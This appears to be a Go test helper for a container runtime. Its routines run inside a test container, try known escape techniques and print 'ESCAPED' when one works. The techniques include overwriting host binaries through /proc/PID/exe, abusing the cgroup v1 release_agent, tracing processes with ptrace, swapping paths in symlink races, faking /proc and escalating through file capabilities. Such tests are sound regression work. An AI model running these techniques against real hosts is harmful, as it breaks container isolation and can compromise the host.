package runtime

import (
	"encoding/binary"
	"fmt"

	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// insiders are what a container of TestCVE does. What must not be possible is
// told in a line that begins with ESCAPED.
var insiders = map[string]func(){
	"nothing": func() { wait() }, "pause": func() { time.Sleep(200 * time.Millisecond) },
	"swap": swap, "binary": holdBinary, "trace": traceAll, "proc": func() { lookAtProc("/proc") }, "procs": lookAtProcs, "gotcha": lookForGotcha,
	"cgroup": mountCgroup, "caps": lookAtCaps, "cwd": lookAround, "console": lookAtConsole, "label": fakeProc,
	"confined": lookAtConfinement, "id": lookAtID, "abstract": dialAbstract,
}

func escaped(format string, args ...any) { fmt.Printf("ESCAPED "+format+"\n", args...) }

// wait waits for ever if the last argument says so.
func wait() {
	if os.Args[len(os.Args)-1] == "wait" {
		fmt.Println("waiting")
		unix.Pause()
	}
}

// swap exchanges two names in /shared for ever.
func swap() {
	fmt.Println("swapping")
	x, y := "/shared/"+os.Args[1], "/shared/"+os.Args[2]
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, x, unix.AT_FDCWD, y, unix.RENAME_EXCHANGE); err != nil {
			fmt.Println(err)
		}
		time.Sleep(100 * time.Microsecond) // a start takes some milliseconds
	}
}

// holdBinary opens the program of every process that is not its own, and writes
// to them once it may.
func holdBinary() {
	os.Symlink("/proc/self/exe", "/tmp/sh")
	fmt.Println("ready")
	held := map[string]*os.File{}
	for _, err := os.Stat("/tmp/now"); err != nil; _, err = os.Stat("/tmp/now") {
		all, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, exe := range all {
			name, err := os.Readlink(exe)
			if err != nil || held[name] != nil || strings.HasPrefix(name, "/attack") || strings.HasPrefix(name, "/usr/") {
				continue
			}
			if f, err := os.Open(exe); err == nil {
				held[name] = f
				fmt.Println("holding", name)
			}
		}
	}
	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); time.Sleep(time.Millisecond) {
		for name, f := range held {
			out, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY|os.O_APPEND, 0)
			if err != nil {
				continue
			}
			if _, err = out.Write([]byte("!")); err == nil {
				escaped("it wrote to %s", name)
				end = time.Now()
			}
			out.Close()
		}
	}
	fmt.Println("tried")
	unix.Pause()
}

// traceAll takes hold of every process that shows up, and looks whether it has
// more than a container's process has.
func traceAll() {
	runtime.LockOSThread() // which is the tracer
	own := status("CapEff")
	fmt.Println("watching")
	seen := 0
	for _, err := os.Stat("/tmp/now"); err != nil; _, err = os.Stat("/tmp/now") {
		all, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range all {
			pid, _ := strconv.Atoi(filepath.Base(dir))
			if pid == os.Getpid() || unix.PtraceSeize(pid) != nil {
				continue
			}
			unix.PtraceInterrupt(pid)
			seen++
			if _, err := os.Stat(dir + "/root" + os.Args[1]); err == nil {
				escaped("it has the host's root by %s", dir)
			}
			b, _ := os.ReadFile(dir + "/status")
			if caps := "CapEff:\t"; strings.Contains(string(b), caps) && !strings.Contains(string(b), caps+own) {
				escaped("it has hold of a process with capabilities %s", strings.Fields(strings.SplitN(string(b), caps, 2)[1])[0])
			}
			if strings.Contains(string(b), "Seccomp:\t0") {
				escaped("it has hold of a process without a filter")
			}
			var ws unix.WaitStatus
			if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err == nil && ws.Stopped() {
				unix.PtraceDetach(pid)
			}
		}
	}
	fmt.Println("seen", seen)
	unix.Pause()
}

// lookAtProc looks whether proc is proc, with what protects and hides. By
// descriptors: in between, somebody may swap it.
func lookAtProc(at string) {
	var fs unix.Statfs_t
	dir, err := unix.Open(at, unix.O_PATH|unix.O_DIRECTORY, 0)
	if err == nil {
		defer unix.Close(dir)
		err = unix.Fstatfs(dir, &fs)
	}
	if err != nil || fs.Type != unix.PROC_SUPER_MAGIC {
		if len(os.Args) == 1 {
			escaped("%s is no proc: %v", at, err)
		}
		return // whoever shares a root may always take /proc away
	}
	sys, err := unix.Openat(dir, "sys", unix.O_PATH, 0)
	if err == nil {
		defer unix.Close(sys)
		err = unix.Fstatfs(sys, &fs)
	}
	if err != nil || fs.Flags&unix.ST_RDONLY == 0 {
		escaped("%s/sys is writable: %v", at, err)
	}
	for _, name := range []string{"kcore", "keys", "timer_list"} {
		var st unix.Stat_t
		if err := unix.Fstatat(dir, name, &st, 0); err == nil && st.Rdev != unix.Mkdev(1, 3) {
			escaped("%s/%s is not hidden, its mode is %o", at, name, st.Mode)
		}
	}
}

func lookAtProcs() {
	for _, at := range os.Args[1:] {
		lookAtProc(at)
	}
}

func lookForGotcha() {
	for _, dir := range []string{"/proc/acpi", "/proc/scsi", "/proc/asound", "/sys/firmware", "/mnt"} {
		if _, err := os.Stat(dir + "/gotcha"); err == nil {
			escaped("what was to be mounted elsewhere is at %s", dir)
		}
	}
}

// mountCgroup mounts a cgroup v1 hierarchy of its own, and one that is there, in
// order to have the kernel run a program of the host.
func mountCgroup() {
	agent, name := os.Args[1], os.Args[2]
	if unix.Unshare(unix.CLONE_NEWUSER|unix.CLONE_NEWNS|unix.CLONE_NEWCGROUP) == nil {
		fmt.Println("in a user namespace of its own")
	}
	for _, hierarchy := range []string{"none,name=" + name, "memory", "pids"} {
		if err := unix.Mount("cgroup", "/mnt", "cgroup", 0, hierarchy); err != nil {
			fmt.Println("refused", hierarchy, err)
			continue
		}
		// Those that the host uses too are only looked at: there it would be all
		// of the host that is hit.
		f, err := os.OpenFile("/mnt/release_agent", os.O_WRONLY, 0)
		fmt.Println("release_agent of", hierarchy, err)
		if err == nil && strings.Contains(hierarchy, name) {
			_, err = f.Write([]byte(agent))
			leaveCgroup("/mnt/x")
		}
		if err == nil {
			escaped("it has release_agent of %s", hierarchy)
		}
		f.Close()
		unix.Unmount("/mnt", 0)
	}
}

// leaveCgroup has the last process leave a group that wants to be told of it.
func leaveCgroup(dir string) {
	os.Mkdir(dir, 0o755)
	os.WriteFile(dir+"/notify_on_release", []byte("1"), 0)
	last := exec.Command("sleep", "0.1")
	if last.Start() == nil {
		os.WriteFile(dir+"/cgroup.procs", []byte(strconv.Itoa(last.Process.Pid)), 0)
		last.Wait()
	}
	time.Sleep(100 * time.Millisecond)
	os.Remove(dir)
}

// status is one line of /proc/self/status.
func status(field string) string {
	b, _ := os.ReadFile("/proc/self/status")
	for line := range strings.Lines(string(b)) {
		if value, ok := strings.CutPrefix(line, field+":"); ok {
			return strings.TrimSpace(value)
		}
	}
	return ""
}

// lookAtCaps makes a program that turns an inheritable capability into a real
// one, and runs it as another user.
func lookAtCaps() {
	defer wait()
	const dacOverride = 1 << unix.CAP_DAC_OVERRIDE
	if os.Args[1] == "gained" {
		if now, _ := strconv.ParseUint(status("CapEff"), 16, 64); now&dacOverride != 0 {
			escaped("user %d has capabilities %x", os.Getuid(), now)
		}
		return
	}
	want := map[string]uint64{"adds": 1 << unix.CAP_NET_BIND_SERVICE}[os.Args[1]]
	if now, err := strconv.ParseUint(status("CapInh"), 16, 64); err != nil || now != want {
		escaped("inheritable capabilities of user %d: %x", os.Getuid(), now)
	}
	if os.Getuid() != 0 {
		return
	}
	self, _ := os.ReadFile("/attack")
	os.WriteFile("/tmp/program", self, 0o755)
	var x [20]byte // struct vfs_cap_data, revision 2, effective
	binary.LittleEndian.PutUint32(x[0:], 0x02000001)
	binary.LittleEndian.PutUint32(x[8:], dacOverride)
	if err := unix.Setxattr("/tmp/program", "security.capability", x[:], 0); err != nil {
		fmt.Println("setxattr:", err)
		return
	}
	cmd := exec.Command("/tmp/program", "gained")
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	out, err := cmd.CombinedOutput()
	fmt.Println(string(out), err)
}

// lookAround looks for the host above its working directory.
func lookAround() {
	up := strings.Repeat("../", 10)
	if b, err := os.ReadFile(up + strings.TrimPrefix(os.Args[1], "/")); err == nil {
		escaped("it read %q of the host", b)
	}
	var here, root unix.Stat_t
	unix.Stat(up, &here)
	unix.Stat("/", &root)
	if here.Ino != root.Ino || here.Dev != root.Dev {
		escaped("its working directory is not below its root")
	}
}

// lookAtConsole looks where its terminals lead, and puts a link in their place.
func lookAtConsole() {
	for name, want := range map[string]uint64{"tty": unix.Mkdev(5, 0), "ptmx": unix.Mkdev(5, 2), "console": 0} {
		var st unix.Stat_t
		if err := unix.Stat("/dev/"+name, &st); err == nil && (st.Rdev != want || st.Mode&unix.S_IFMT != unix.S_IFCHR) {
			f, err := os.OpenFile("/dev/"+name, os.O_WRONLY, 0)
			f.Close()
			escaped("/dev/%s is device %x, mode %o; to write to it: %v", name, st.Rdev, st.Mode, err)
		}
	}
	fmt.Println(unix.Mount("t", "/dev/pts", "tmpfs", 0, ""), os.Symlink("/proc/self/comm", "/dev/pts/ptmx"))
	fmt.Println("waiting")
	unix.Pause()
}

// fakeProc puts a tree of its own in the place of /proc, in which a file that
// runtimes write to is a link.
func fakeProc() {
	if f, err := os.OpenFile("/victim", os.O_WRONLY, 0); err == nil {
		f.Close()
		fmt.Println("it could write to the file without a trick")
	}
	fmt.Println(unix.Mount("t", "/proc", "tmpfs", 0, ""), os.MkdirAll("/proc/self/attr", 0o755), os.Symlink("/victim", "/proc/self/attr/exec"))
	os.Symlink("self", "/proc/thread-self")
	os.Symlink("self", "/proc/1")
	fmt.Println("waiting")
	unix.Pause()
}

// lookAtConfinement asks the kernel, as /proc may lie.
func lookAtConfinement() {
	mode, _ := unix.PrctlRetInt(unix.PR_GET_SECCOMP, 0, 0, 0, 0)
	privs, _ := unix.PrctlRetInt(unix.PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)
	chown, _ := unix.PrctlRetInt(unix.PR_CAPBSET_READ, unix.CAP_CHOWN, 0, 0, 0)
	if mode == unix.SECCOMP_MODE_FILTER && privs == 1 && chown == 0 {
		fmt.Println("confined")
	}
}

func lookAtID() {
	groups, _ := os.Getgroups()
	fmt.Println(os.Getuid(), os.Getgid(), groups)
	if os.Getuid() != 1000 {
		escaped("it is user %d", os.Getuid())
	}
	for _, g := range append(groups, os.Getgid()) {
		if g == 0 && os.Getgid() != 0 {
			escaped("it is in group 0")
		}
	}
}

// dialAbstract asks whoever listens on an abstract socket of this test's.
func dialAbstract() {
	b, err := os.ReadFile("/proc/net/unix")
	fmt.Println(strings.Count(string(b), "@"), "abstract sockets", err)
	for line := range strings.Lines(string(b)) {
		fields := strings.Fields(line)
		name := fields[len(fields)-1]
		if !strings.HasPrefix(name, "@") || !strings.Contains(name, os.Args[1]) {
			continue
		}
		for _, kind := range []string{"unix", "unixpacket"} {
			c, err := net.Dial(kind, name)
			if err != nil {
				continue
			}
			c.Write([]byte(`{"op":"list"}`))
			c.SetReadDeadline(time.Now().Add(5 * time.Second))
			answer := make([]byte, 1024)
			n, err := c.Read(answer)
			escaped("%s answers %q %v", name, answer[:n], err)
		}
	}
}
